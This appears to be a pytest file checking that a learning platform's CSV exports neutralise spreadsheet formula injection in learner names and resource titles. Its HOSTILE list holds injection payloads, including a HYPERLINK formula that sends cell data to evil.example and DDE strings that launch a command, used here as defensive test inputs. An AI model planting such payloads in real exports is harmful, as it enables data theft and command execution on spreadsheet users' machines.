"""CSV exports: a name or a title never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from passerelle.server import records
from passerelle.server.db import get_db
from passerelle.server.people import accounts, roster
from passerelle.server.reports import spreadsheet

REPO = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[list[str]]:
    """Rows of a CSV the box wrote: `;` for the pages' downloads (Excel in Belgium), `,` else."""
    text = text.lstrip("\ufeff")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_a_formula_is_shown_as_text(text):
    assert spreadsheet.cell(text) == "'" + text
    assert spreadsheet.unescape(spreadsheet.cell(text)) == text


def test_numbers_and_ordinary_text_are_left_alone():
    out = io.StringIO()
    spreadsheet.writer(out).writerow([-3, -0.5, 12, "-3", "0.5", "Jean-Paul", "a=b", True, None])
    assert out.getvalue() == '-3,-0.5,12,"-3","0.5","Jean-Paul","a=b","true",""\r\n'
    assert spreadsheet.unescape("'quoted") == "'quoted"


def test_a_separator_inside_a_cell_never_starts_a_new_one():
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["Ann;=1+1", "Bob,+1"])
    assert out.getvalue() == '"Ann;=1+1","Bob,+1"\r\n'  # quoted whole, whatever the separator


def test_every_csv_the_box_writes_goes_through_the_one_helper():
    writers = [str(p.relative_to(REPO)) for folder in ("server", "kiosk", "content", "search_index")
               for p in (REPO / folder).rglob("*.py")
               if "csv.writer" in p.read_text(encoding="utf-8") or "DictWriter" in p.read_text(encoding="utf-8")]
    assert writers == ["server/reports/spreadsheet.py"]


@pytest.fixture
def hostile_box(app, box):
    """A learner named like a formula, with progress on a resource titled like one."""
    with app.app_context():
        db = get_db()
        learner = accounts.create_user(db, role="learner", display_name=HOSTILE[0], pin="4321")
        accounts.add_member(db, box.ids["class_a"], learner)
        records.event(db, learner, {"event_id": "h1", "pack_id": "demo-fr", "node_id": "basics/quiz",
                                    "type": "answer", "correct": True, "seconds": 42})
        with records.write_tx(db):
            db.execute("UPDATE content_nodes SET title = ? WHERE pack_id = 'demo-fr'"
                       " AND node_id = 'basics/quiz'", [HOSTILE[1]])
    return learner


def test_progress_csv_neutralises_names_and_titles(hostile_box, as_user):
    body = as_user("cora").get("/manage/exports/progress.csv").get_data(as_text=True)
    (row,) = [r for r in rows_of(body) if r[0] == hostile_box]
    assert row[1] == "'" + HOSTILE[0] and row[4] == "'" + HOSTILE[1]
    assert row[8] == "42"  # a number stays a number
    assert not any(cell.startswith(spreadsheet.FORMULA_START) for r in rows_of(body) for cell in r)


def test_the_people_export_neutralises_names_and_reads_back_as_they_were(hostile_box, app):
    with app.app_context():
        db = get_db()
        exported = roster.export(db)
        (row,) = [r for r in rows_of(exported) if r[0] == hostile_box]
        assert row[1] == "'" + HOSTILE[0]
        # The export's columns are the import's, plus ids and dates: a coordinator who drops
        # those and imports the file elsewhere gets the name back as it was typed.
        header, *rows = rows_of(exported)
        keep = [i for i, name in enumerate(header) if name in roster.COLUMNS]
        edited = io.StringIO()
        csv.writer(edited).writerows([[r[i] for i in keep] for r in [header, row]])
        (read,) = [values for _n, values in roster.read(edited.getvalue())]
        assert read["display_name"] == HOSTILE[0]
